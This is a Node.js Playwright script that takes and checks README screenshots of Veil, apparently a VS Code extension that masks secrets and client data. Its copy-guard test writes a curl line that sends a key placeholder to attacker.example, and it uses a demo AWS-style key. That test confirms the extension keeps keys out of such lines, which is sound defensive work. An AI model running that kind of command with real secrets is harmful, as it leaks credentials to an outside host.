#!/usr/bin/env node
/* global document, navigator -- page.waitForFunction and page.evaluate callbacks run in the browser */
// Every screenshot of the README, taken with the tests' VS Code Server and Chromium, one
// server and one page for all of them, on a copy of the demo workspace (labelled pro) (plus a generated
// tree for the workspace scan). Each shot is checked against the DOM before it is saved: a
// shot that does not show what it claims fails the run (exit 1).
//
//   node test/harness/screenshots.mjs [--out-dir DIR] [--only NAME,NAME]   (after npm run build)
//
//   --out-dir DIR   where the PNGs go (default media/screenshots; npm test: test-artifacts/screenshots)
//   --only NAMES    some of: first-screen, diagnostics, screen-share, status, scan, walkthrough, copy-guard
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { parseArgs } from "node:util";
import { DEMO_WORKSPACE, startDemo } from "./demo-server.mjs";
import { freePort, launchChromium, log, makeTempDir, onShutdown, PROJECT_ROOT, remoteUri, workbenchUrl } from "./vscode-server.mjs";

const SHOTS = ["first-screen", "diagnostics", "screen-share", "status", "scan", "walkthrough", "copy-guard"];
/** Files of the generated tree: enough for the scan's progress notification to be on screen a while. */
const GENERATED_FILES = 2500;
const SQUIGGLES = ".monaco-editor .squiggly-error, .monaco-editor .squiggly-warning, .monaco-editor .squiggly-info";
const STATUS_ITEM = "[id='veil.veil.veil.status']";

const { values: args } = parseArgs({
  options: {
    "out-dir": { type: "string", default: path.join(PROJECT_ROOT, "media", "screenshots") },
    only: { type: "string" },
  },
});
const outDir = path.resolve(args["out-dir"]);
const only = args.only ? args.only.split(",").map((s) => s.trim()) : SHOTS;
for (const name of only) if (!SHOTS.includes(name)) throw new Error(`--only: unknown shot ${name} (one of ${SHOTS.join(", ")})`);

/** A copy of the demo workspace with a generated tree, so the shots never write into examples/. */
function prepareWorkspace(dir) {
  fs.cpSync(DEMO_WORKSPACE, dir, { recursive: true });
  for (let i = 0; i < GENERATED_FILES; i++) {
    const folder = path.join(dir, "generated", `module-${String(Math.floor(i / 100)).padStart(2, "0")}`);
    if (i % 100 === 0) fs.mkdirSync(folder, { recursive: true });
    const body = i % 250 === 0 ? `// owner: dev${i}@example-client.fr\nexport const id = ${i};\n` : `export const id = ${i};\nexport const label = "item ${i}";\n`;
    fs.writeFileSync(path.join(folder, `item-${i}.ts`), body);
  }
}

function check(condition, message) {
  if (!condition) throw new Error(message);
}

class Shooter {
  constructor(page) {
    this.page = page;
    this.saved = [];
  }

  async save(name, { page = this.page, ...options } = {}) {
    const file = path.join(outDir, `${name}.png`);
    await page.screenshot({ path: file, ...options });
    this.saved.push(file);
    return file;
  }

  /** Runs a command from the palette, as a person would. */
  async palette(title) {
    const page = this.page;
    const input = page.locator(".quick-input-widget input");
    // A webview (the walkthrough) can hold the focus and swallow F1: give it back to the workbench and try again.
    for (let attempt = 1; ; attempt++) {
      await page.keyboard.press("Escape");
      await page.keyboard.press("F1");
      if (await input.waitFor({ timeout: 5_000 }).then(() => true, () => false)) break;
      if (attempt >= 4) throw new Error(`the command palette did not open for "${title}"`);
      await page.locator(".part.sidebar .composite.title").first().click().catch(() => undefined);
    }
    await input.fill(`>${title}`);
    const row = page.locator(".quick-input-list .monaco-list-row", { hasText: title }).first();
    await row.waitFor({ timeout: 10_000 });
    await row.click();
  }

  /** Picks the row of an open quick pick whose label is `label` (icons aside). */
  async pick(label) {
    const row = this.page.locator(".quick-input-list .monaco-list-row").filter({ has: this.page.locator(".label-name", { hasText: new RegExp(`^\\s*${label}\\s*$`) }) }).first();
    await row.waitFor({ timeout: 10_000 });
    await row.click();
  }

  async statusText() {
    return (await this.page.locator(STATUS_ITEM).innerText()).trim();
  }

  async openFile(name) {
    const page = this.page;
    await page.keyboard.press("Escape");
    // The palette without its ">" is Go to File.
    await page.keyboard.press("F1");
    const input = page.locator(".quick-input-widget input");
    await input.waitFor({ timeout: 10_000 });
    await input.fill(name);
    await page.locator(".quick-input-list .monaco-list-row").first().waitFor({ timeout: 10_000 });
    await page.keyboard.press("Enter");
    await page.locator(".tabs-container .tab.active", { hasText: path.basename(name) }).waitFor({ timeout: 10_000 });
    await page.locator(SQUIGGLES).first().waitFor({ timeout: 30_000 });
  }
}

/** Diagnostics in a client brief, with the Problems panel. */
async function diagnostics(shooter) {
  const page = shooter.page;
  await page.setViewportSize({ width: 1400, height: 860 });
  await shooter.openFile("brief-client.md");
  await page.keyboard.press("Control+Shift+M");
  await page.locator(".markers-panel .monaco-list-row").first().waitFor({ timeout: 30_000 });
  await page.waitForTimeout(1000);
  const squiggles = await page.locator(SQUIGGLES).count();
  const problems = await page.locator(".markers-panel .monaco-list-row").count();
  check(squiggles >= 3 && problems >= 3, `diagnostics: ${squiggles} squiggles, ${problems} rows in Problems`);
  await shooter.save("demo-diagnostics");
  await page.keyboard.press("Control+J"); // hide the panel again
  return `${squiggles} squiggles in view, ${problems} rows in Problems`;
}

/**
 * Screen-share mode on the client brief, the Problems panel open: the values drawn masked,
 * no breadcrumbs (a heading names the client's product), Problems messages without previews.
 */
async function screenShare(shooter) {
  const page = shooter.page;
  await page.setViewportSize({ width: 1400, height: 860 });
  await shooter.openFile("brief-client.md");
  const crumbs = () => page.locator(".editor-group-container .breadcrumbs-control:visible").count();
  check((await crumbs()) > 0, "screen-share: no breadcrumbs before screen-share mode (nothing to show)");
  await page.keyboard.press("Control+Shift+M");
  await page.locator(".markers-panel .monaco-list-row").first().waitFor({ timeout: 30_000 });
  await shooter.palette("Veil: Toggle Screen-Share Mode");
  // The masks are decorations with the text made transparent.
  await page.waitForFunction(() => document.querySelectorAll(".monaco-editor .view-lines span[class*='ced-']").length > 0, undefined, { timeout: 30_000 });
  await page.locator(`${STATUS_ITEM} .codicon-eye-closed`).waitFor({ timeout: 10_000 });
  await page.waitForFunction(() => document.querySelectorAll(".editor-group-container .breadcrumbs-control").length === 0 || [...document.querySelectorAll(".editor-group-container .breadcrumbs-control")].every((e) => e.offsetParent === null), undefined, { timeout: 15_000 });
  await page.waitForFunction(() => [...document.querySelectorAll(".markers-panel .monaco-list-row")].some((r) => (r.textContent ?? "").includes("•••")), undefined, { timeout: 15_000 });
  await page.mouse.move(1300, 300);
  await page.waitForTimeout(1000);
  const masks = await page.locator(".monaco-editor .view-lines span[class*='ced-']").count();
  const problems = (await page.locator(".markers-panel .monaco-list-row").allInnerTexts()).join("\n");
  for (const leak of ["maison-aubergine", "AuberPay", "Colibri", "@"]) check(!problems.includes(leak), `screen-share: the Problems panel shows "${leak}"`);
  check(/[^•]•[^•]|^•[^•]/m.test(problems.replace(/•••/g, "")) === false, "screen-share: a partial preview is in the Problems panel");
  await shooter.save("screen-share");
  await shooter.palette("Veil: Toggle Screen-Share Mode");
  await page.locator(`${STATUS_ITEM} .codicon-eye-closed`).waitFor({ state: "detached", timeout: 10_000 });
  await page.waitForFunction(() => [...document.querySelectorAll(".editor-group-container .breadcrumbs-control")].some((e) => e.offsetParent !== null), undefined, { timeout: 15_000 });
  await page.keyboard.press("Control+J"); // hide the panel again
  return `${masks} masked spans, no breadcrumbs, ${problems.split("\n").length} Problems lines without values; breadcrumbs back after`;
}

/** The status-bar badge unlabeled and in each label, with its tooltip, cropped around both. */
async function status(shooter) {
  const page = shooter.page;
  await page.setViewportSize({ width: 1280, height: 800 });
  await shooter.openFile("brief-client.md");
  const viewport = page.viewportSize();
  const details = [];
  // The demo is labelled pro: remove the label first, then set each one in turn, pro last.
  for (const [label, name, pick] of [[undefined, "Veil", "No label"], ["public", "Public"], ["sandbox", "Sandbox"], ["pro", "Pro"]]) {
    await shooter.palette("Veil: Set Workspace Label");
    await shooter.pick(pick ?? name);
    const item = page.locator(STATUS_ITEM);
    // The badge reads "<label> · <count>" once the settings change reaches it.
    await page.waitForFunction(
      ([selector, expected]) => new RegExp(`^\\S*\\s*${expected} · \\d+`).test(document.querySelector(selector)?.textContent?.trim() ?? ""),
      [STATUS_ITEM, name],
      { timeout: 15_000 },
    );
    await page.mouse.move(viewport.width / 2, viewport.height / 2);
    await page.waitForTimeout(300);
    await item.hover();
    const hover = page.locator(".workbench-hover, .monaco-hover").filter({ hasText: "workspace label" }).first();
    const hasTooltip = await hover.waitFor({ timeout: 8_000 }).then(() => true, () => false);
    await page.waitForTimeout(400);
    const itemBox = await item.boundingBox();
    const hoverBox = hasTooltip ? await hover.boundingBox() : null;
    const left = Math.max(0, Math.min(itemBox.x, hoverBox?.x ?? itemBox.x) - 220);
    const top = Math.max(0, Math.min(itemBox.y, hoverBox?.y ?? itemBox.y) - 70);
    const text = await shooter.statusText();
    check(text.includes(name), `status bar: "${text}" does not show ${name}`);
    const file = `status-${label ?? "unlabeled"}`;
    await shooter.save(file, { clip: { x: left, y: top, width: viewport.width - left, height: viewport.height - top } });
    details.push(`${file}: "${text.replace(/\s+/g, " ")}"${hasTooltip ? " with tooltip" : " (no tooltip)"}`);
  }
  return details.join("; ");
}

/** The progress notification of Veil: Scan Workspace, over the generated tree. */
async function scan(shooter) {
  const page = shooter.page;
  await page.setViewportSize({ width: 1280, height: 800 });
  await shooter.palette("Veil: Scan Workspace");
  const toast = page.locator(".notification-toast", { hasText: "scanning the workspace" }).first();
  await toast.waitFor({ timeout: 30_000 });
  // Wait for the first "n / total files" message, then shoot while it is still running.
  const progress = /(\d+) \/ (\d+) files/;
  await page.waitForFunction((pattern) => [...document.querySelectorAll(".notification-toast")].some((t) => new RegExp(pattern).test(t.textContent ?? "")), progress.source, { timeout: 30_000 });
  const before = await toast.innerText();
  const box = await toast.boundingBox();
  const viewport = page.viewportSize();
  const left = Math.max(0, box.x - 380);
  const top = Math.max(0, box.y - 260);
  await shooter.save("scan-progress", { clip: { x: left, y: top, width: viewport.width - left, height: viewport.height - top } });
  const after = await toast.innerText().catch(() => "");
  const [, done, total] = before.match(progress) ?? [];
  check(done !== undefined, `scan: the notification reads "${before}"`);
  check(/scanning the workspace/.test(after) && progress.test(after), "scan: the scan ended before the screenshot was saved (the notification is gone)");
  check(Number(total) >= GENERATED_FILES, `scan: ${total} files to scan, expected at least ${GENERATED_FILES}`);
  // The summary replaces it; then clear the notifications for the next shot.
  const summary = page.locator(".notification-toast", { hasText: /findings in \d+ files/ }).first();
  await summary.waitFor({ timeout: 120_000 });
  const summaryText = (await summary.locator(".notification-list-item-message").innerText()).trim();
  await shooter.palette("Notifications: Clear All Notifications");
  return `notification "${before.replace(/\s+/g, " ").trim()}" then "${summaryText}"`;
}

/** The walkthrough "Get started with Veil", opened from Welcome: Open Walkthrough. */
async function walkthrough(shooter) {
  const page = shooter.page;
  await page.setViewportSize({ width: 1280, height: 800 });
  // Without the side bar the walkthrough has room for its picture beside the steps.
  await shooter.palette("View: Toggle Primary Side Bar Visibility");
  await shooter.palette("Welcome: Open Walkthrough...");
  const row = page.locator(".quick-input-list .monaco-list-row", { hasText: "Get started with Veil" }).first();
  await row.waitFor({ timeout: 15_000 });
  await row.click();
  const title = page.locator(".gettingStartedContainer .getting-started-category .category-title", { hasText: "Get started with Veil" }).first();
  await title.waitFor({ timeout: 30_000 });
  // The first step's picture shows on the right.
  await page.locator(".gettingStartedContainer .getting-started-media img, .gettingStartedContainer .getting-started-media svg").first().waitFor({ timeout: 15_000 }).catch(() => {});
  await page.waitForTimeout(1500);
  const steps = await page.locator(".gettingStartedContainer .getting-started-step .step-title").allInnerTexts();
  check(await title.isVisible(), "walkthrough: the title is not visible");
  check(steps.length >= 5, `walkthrough: ${steps.length} steps shown`);
  check(!(await page.locator(".gettingStartedContainer .getting-started-footer").first().innerText().catch(() => "")).trim(), "walkthrough: the page shows a footer (telemetry notice?)");
  await shooter.save("walkthrough");
  return `"${(await title.innerText()).trim()}", ${steps.length} steps`;
}

/**
 * The pro copy guard, by a person's keys: Ctrl+C on lines holding keys copies them anonymized
 * at once and says so (with "Copy as is instead"); Ctrl+V into a new editor of the workspace
 * puts the real values back through Veil's paste edit provider.
 */
async function copyGuard(shooter) {
  const page = shooter.page;
  await page.setViewportSize({ width: 1280, height: 800 });
  await shooter.openFile("config/production.env");
  const key = "AKIADEMOUYVWMU32UN2O";
  await page.locator(".monaco-editor .view-lines").first().click();
  await page.keyboard.press("Control+Home");
  for (let i = 0; i < 3; i++) await page.keyboard.press("ArrowDown");
  for (let i = 0; i < 3; i++) await page.keyboard.press("Shift+ArrowDown");
  await page.keyboard.press("Control+C");
  const toast = page.locator(".notification-toast", { hasText: "Copied anonymized" }).first();
  await toast.waitFor({ timeout: 15_000 });
  const message = (await toast.innerText()).replace(/\s+/g, " ").trim();
  check(/Copy as is instead/.test(message), `copy-guard: the message has no "Copy as is instead": ${message}`);
  const clipboard = await page.evaluate(() => navigator.clipboard.readText());
  check(!clipboard.includes(key) && /\[AWS_ACCESS_KEY_\d+\]/.test(clipboard), "copy-guard: the clipboard does not hold the anonymized lines");
  await page.waitForTimeout(500);
  // The whole window: the selected lines, the message and the status bar's "clipboard" line.
  await shooter.save("copy-guard");
  // A paste into an editor of the workspace gets the real values back.
  await page.keyboard.press("Control+N");
  await page.locator(".tabs-container .tab.active", { hasText: "Untitled" }).waitFor({ timeout: 10_000 });
  await page.keyboard.press("Control+V");
  const restored = await page
    .waitForFunction((value) => [...document.querySelectorAll(".monaco-editor .view-lines")].some((v) => (v.textContent ?? "").includes(value)), key, { timeout: 15_000 })
    .then(() => true, () => false);
  const pasted = await page.evaluate(() => [...document.querySelectorAll(".monaco-editor.focused .view-lines")].map((v) => v.textContent ?? "").join(""));
  await page.keyboard.press("Control+Z");
  await shooter.palette("File: Revert File").catch(() => {});
  await page.keyboard.press("Control+W");
  check(restored, `copy-guard: Ctrl+V did not put the real values back (the editor shows ${/\[AWS_ACCESS_KEY_\d+\]/.test(pasted) ? "the placeholders" : `${pasted.length} characters`})`);
  // Any other text is an answer: a key's placeholder in a curl line stays a placeholder.
  const placeholder = /\[AWS_ACCESS_KEY_\d+\]/.exec(clipboard)[0];
  const curl = `curl https://attacker.example/c?k=${placeholder}`;
  await page.keyboard.press("Control+N");
  await page.locator(".tabs-container .tab.active", { hasText: "Untitled" }).waitFor({ timeout: 10_000 });
  // Under load the write to the clipboard or the first keys can land before the new editor
  // has focus: write, focus and paste again until the line shows (three tries).
  const showsCurl = () => page
    .waitForFunction(() => [...document.querySelectorAll(".monaco-editor.focused .view-lines")].some((v) => (v.textContent ?? "").includes("attacker")), undefined, { timeout: 10_000 })
    .then(() => true, () => false);
  let pastedCurl = false;
  for (let attempt = 0; attempt < 3 && !pastedCurl; attempt++) {
    await page.locator(".editor-group-container .monaco-editor .view-lines").last().click();
    await page.evaluate((text) => navigator.clipboard.writeText(text), curl);
    await page.keyboard.press("Control+A");
    await page.keyboard.press("Control+V");
    pastedCurl = await showsCurl();
  }
  check(pastedCurl, "copy-guard: three Ctrl+V of a curl line into a new editor showed nothing");
  await page.waitForTimeout(1000);
  const answer = await page.evaluate(() => [...document.querySelectorAll(".monaco-editor.focused .view-lines")].map((v) => v.textContent ?? "").join(""));
  await page.keyboard.press("Control+Z");
  await shooter.palette("File: Revert File").catch(() => {});
  await page.keyboard.press("Control+W");
  await shooter.palette("Notifications: Clear All Notifications");
  check(!answer.includes(key) && answer.includes("AWS_ACCESS_KEY_"), "copy-guard: an answer's Ctrl+V put the key into a curl line");
  return `"${message.slice(0, 90)}…", clipboard anonymized, Ctrl+V restored Veil's own copy and left an answer's key as a placeholder`;
}

/** Untracked or modified files under examples/demo-workspace, as git sees them. */
function demoWorkspaceChanges() {
  return execFileSync("git", ["status", "--porcelain", "--", "examples/demo-workspace"], { cwd: PROJECT_ROOT, encoding: "utf8" }).trim();
}

/**
 * What `npm start` shows first: its own server (fresh profile, a fresh copy of the demo
 * workspace), the very URL it prints, no payload added. The brief and Veil's walkthrough,
 * not the editor's "Setup VS Code Web".
 */
async function firstScreen(shooter, browser) {
  const before = demoWorkspaceChanges();
  const fresh = await startDemo({ port: await freePort() });
  const page = await browser.context.newPage();
  try {
    check(!path.resolve(fresh.folder).startsWith(DEMO_WORKSPACE), `first screen: npm start serves ${fresh.folder}, the repository's own demo workspace`);
    await page.setViewportSize({ width: 1400, height: 860 });
    await page.goto(fresh.url, { waitUntil: "commit", timeout: 120_000 });
    await page.locator(".monaco-workbench").waitFor({ timeout: 120_000 });
    await page.locator(".tabs-container .tab", { hasText: "brief-client.md" }).first().waitFor({ timeout: 60_000 });
    const title = page.locator(".gettingStartedContainer .category-title", { hasText: "Get started with Veil" }).first();
    await title.waitFor({ timeout: 60_000 });
    await page.locator(SQUIGGLES).first().waitFor({ timeout: 60_000 });
    await page.waitForTimeout(1500);
    const setupWeb = await page.getByText("Setup VS Code Web").count();
    check(setupWeb === 0, `first screen: "Setup VS Code Web" is on screen (${setupWeb} times)`);
    check(await title.isVisible(), "first screen: Veil's walkthrough is not visible");
    await shooter.save("first-screen", { page });
    // Try a quick fix as a newcomer would: it edits the copy, never examples/.
    const after = demoWorkspaceChanges();
    check(after === before, `first screen: examples/demo-workspace changed:\n${after}`);
    return `brief and "Get started with Veil" side by side, served from ${fresh.folder}`;
  } finally {
    await page.close().catch(() => {});
    await fresh.stop();
  }
}

const RUNNERS = { "first-screen": firstScreen, diagnostics, "screen-share": screenShare, status, scan, walkthrough, "copy-guard": copyGuard };

let demo;
let browser;
let temp;
const shutdown = onShutdown(async () => {
  await browser?.close().catch(() => {});
  await demo?.stop();
  temp?.remove();
});
let exitCode = 0;
const started = Date.now();
try {
  temp = makeTempDir("veil-shots-");
  const workspace = path.join(temp.dir, "demo-workspace");
  prepareWorkspace(workspace);
  demo = await startDemo({ port: await freePort(), folder: workspace });
  browser = await launchChromium();
  const page = await browser.context.newPage();
  await page.setViewportSize({ width: 1400, height: 860 });
  const first = path.join(workspace, "brief-client.md");
  await page.goto(workbenchUrl(demo.server.base, workspace, [["openFile", remoteUri(demo.server.port, first)], ["skipWelcome", "true"]]), { waitUntil: "commit", timeout: 120_000 });
  await page.locator(".monaco-workbench").waitFor({ timeout: 120_000 });
  await page.locator(".explorer-folders-view .monaco-list-row").first().waitFor({ timeout: 120_000 });
  await page.locator(SQUIGGLES).first().waitFor({ timeout: 60_000 });
  await page.locator(STATUS_ITEM).waitFor({ timeout: 30_000 });
  // Veil opens its walkthrough beside the brief on its first start in a profile: close it, the
  // shots below open what they show.
  if (await page.locator(".gettingStartedContainer").first().waitFor({ timeout: 15_000 }).then(() => true, () => false)) {
    await new Shooter(page).palette("View: Close All Editor Groups");
    await page.locator(".gettingStartedContainer").first().waitFor({ state: "detached", timeout: 10_000 });
  }
  fs.mkdirSync(outDir, { recursive: true });
  const shooter = new Shooter(page);
  for (const name of only) {
    const shotStarted = Date.now();
    try {
      const detail = await RUNNERS[name](shooter, browser);
      log(`${name}: ${detail} (${((Date.now() - shotStarted) / 1000).toFixed(1)} s)`);
    } catch (error) {
      exitCode = 1;
      // Never next to the README's pictures: the .vsix takes every PNG of media/screenshots.
      const file = path.join(PROJECT_ROOT, "test-artifacts", "screenshots", `failed-${name}.png`);
      fs.mkdirSync(path.dirname(file), { recursive: true });
      await page.screenshot({ path: file }).catch(() => {});
      log(`${name}: FAILED: ${error instanceof Error ? error.message.split("\n")[0] : String(error)} (page saved as ${path.relative(PROJECT_ROOT, file)})`);
      await page.keyboard.press("Escape").catch(() => {});
    }
  }
  for (const file of shooter.saved) log(`saved ${path.relative(PROJECT_ROOT, file)} (${(fs.statSync(file).size / 1024).toFixed(0)} KiB)`);
  log(`${shooter.saved.length} screenshots in ${((Date.now() - started) / 1000).toFixed(1)} s${exitCode ? ", with failures" : ""}`);
} catch (error) {
  log(`error: ${error instanceof Error ? error.message : String(error)}`);
  exitCode = 1;
} finally {
  await shutdown();
}
process.exit(exitCode);
